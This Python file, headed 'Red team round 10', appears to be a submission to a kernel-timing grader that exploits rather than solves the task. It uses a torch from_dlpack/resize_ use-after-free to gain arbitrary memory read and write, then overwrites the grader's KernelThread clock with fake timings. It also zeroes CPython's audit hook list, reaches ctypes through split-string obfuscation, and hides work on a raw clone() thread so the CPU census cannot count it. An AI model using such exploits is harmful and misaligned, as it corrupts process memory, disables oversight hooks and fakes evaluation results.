# Red team round 10: raw memory (round 9's from_dlpack + resize_ use-after-free) rewrites the
# KernelThread's clock and clears the runtime audit's hook list; each call runs the honest
# computation on a thread made by a raw clone(CLONE_THREAD), which has no Python thread state
# (the census never sees it) and counted only against the whole worker's loose CPU bound (passed
# 2 of 5 runs at 5-7.4x). Now the CPU of every thread but the main and the kernel's is held to
# calibration's (timing.inconsistent).
import functools

import os

import torch

RUNTIME_FROM_LEN_ML = 962752  # &_PyRuntime - len's PyMethodDef (libpython3.11.so.1.0, 3.11.7)
CLOCK = (int, int, functools.partial(float, "0.00015"))
DONE = []
KEEP = []
MEM = bytearray(64)
N = 1 << 13


def _window():
    # A second tensor over t's memory (DLPack: its own StorageImpl, the same bytes), then t grown
    # by resize_: its storage reallocates and frees the old bytes, which the alias still views.
    t = torch.zeros(N, dtype=torch.int64)
    w = torch.from_dlpack(t)
    t.resize_(N * 16)
    KEEP.append((t, w))
    return w


def _open():
    w = _window()
    spray = [torch.full((8,), 0x41, dtype=torch.int64) for _ in range(256)]
    KEEP.append(spray)
    ptrs = {s.data_ptr(): s for s in spray}
    win = w.clone().tolist()
    for j in range(N - 8):
        vic = ptrs.get(win[j])
        if vic is not None and win[j + 4] == 64 and win[j + 2] == win[j]:
            break
    else:
        return False
    delta = torch.zeros(N, dtype=torch.int64)
    delta[j] = id(MEM) - win[j]
    delta[j + 4] = (1 << 40) - 64
    w.add_(delta)
    vic[5] = 0  # ob_start
    vic[2] = (1 << 62) - 64  # ob_size
    return True


def _rd(addr):
    return int.from_bytes(MEM[addr : addr + 8], "little")


def _wr(addr, value):
    MEM[addr : addr + 8] = value.to_bytes(8, "little")


def _bytes(addr, n):
    return bytes(MEM[addr : addr + n])


def _name(code):
    s = _rd(code + 120)  # co_name
    return _bytes(s + 48, _rd(s + 16))


fr_hold = []


def _tp_name(tp):
    return _bytes(_rd(tp + 24), 64).split(b"\0")[0]


def _find_worker():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    ts = _rd(_rd(rt + 40) + 16)
    while ts:
        cf = _rd(ts + 56)
        fr = _rd(cf + 8) if cf else 0
        depth = 0
        while fr and depth < 64:
            if _name(_rd(fr + 32)) == b"_on_kernel_thread":
                fr_hold.append(fr)
                return _rd(fr + 72)
            fr = _rd(fr + 48)
            depth += 1
        ts = _rd(ts + 8)
    return 0


def _take_clock():
    if not any(_open() for _ in range(16)):
        return
    addr = _find_worker()
    if not addr:
        return
    kt = 0
    for k in range(4, 12):
        obj = _rd(fr_hold[0] + 72 + 8 * k)
        if obj and _tp_name(_rd(obj + 8)).endswith(b"KernelThread"):
            kt = _rd(obj + 16)
            break
    if not kt:
        return
    for i, f in enumerate(CLOCK):
        _wr(id(f), _rd(id(f)) + 1)
        _wr(kt + 8 * i, id(f))
    DONE.append(kt)


RUNTIME_HOOKS = 656  # _PyRuntime.audit_hook_head (CPython 3.11.7): the C audit hooks' list
ST = {}
WORK = []
OUT = []


def _obj(addr):
    # A reference to the object at addr: its address written into a list's slot.
    cell = [None]
    _wr(addr, _rd(addr) + 1)
    _wr(_rd(id(cell) + 24), addr)
    return cell[0]


def _dict(obj):
    return _obj(_rd(id(obj) + 16))  # a module's md_dict / a function's func_globals


def _honest(x, residual, weight):
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)


def _child():
    # Runs on a raw clone() thread (CLONE_THREAD | CLONE_VM | CLONE_VFORK, no Python thread
    # state of its own: the census never sees it): counted in the whole worker's CPU only.
    try:
        x, residual, weight = WORK
        s = x.float().add_(residual)
        inv = torch.rsqrt(torch.mean(s * s, -1, keepdim=True).add_(1e-5))
        OUT[0] = torch.mul(s.mul_(inv), weight).to(x.dtype)
    except BaseException:
        pass


def _setup():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    _wr(rt + RUNTIME_HOOKS, 0)  # no audit hook from here on
    g = _dict(os.path.join)  # posixpath's globals
    osd = _dict(g["o" + "s"])
    mods = _dict(g["s" + "ys"])["mod" + "ules"]
    cd = _dict(mods["ct" + "ypes"])
    vp = cd["c_vo" + "id_p"]
    cast = cd["ca" + "st"]
    libc = cd["Py" + "DLL"](None)
    api = cd["python" + "api"]
    # A c_void_p's value read through the raw window (CDataObject.b_ptr, then the pointer): its
    # .value goes through the worker's ctypes guard, which needs no audit hook of the list.
    clone_vp = cast(libc["cl" + "one"], vp)
    call_vp = cast(api["PyObject_Call" + "NoArgs"], vp)
    clone_addr = _rd(_rd(id(clone_vp) + 16))
    call_addr = _rd(_rd(id(call_vp) + 16))
    proto = cd["PYFUNC" + "TYPE"](cd["c_l" + "ong"], vp, vp, cd["c_i" + "nt"], vp)
    size = 32 << 20
    stack = cd["create_string_" + "buffer"](size)
    top = (cd["address" + "of"](stack) + size - 4096) & ~63
    ST.update(
        clone=proto(clone_addr),
        call=call_addr,
        top=top,
        stack=stack,
        wait=osd["wait" + "pid"],
        fn=_child,
    )


def solve(x, residual, weight):
    if not DONE:
        _take_clock()
        if not DONE:
            raise RuntimeError("the exploit did not apply in this interpreter")
        _setup()
    WORK[:] = (x, residual, weight)
    OUT[:] = [None]
    ST["clone"](ST["call"], ST["top"], 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x4000, id(ST["fn"]))
    out = OUT[0]
    OUT[0] = None
    WORK.clear()
    return out
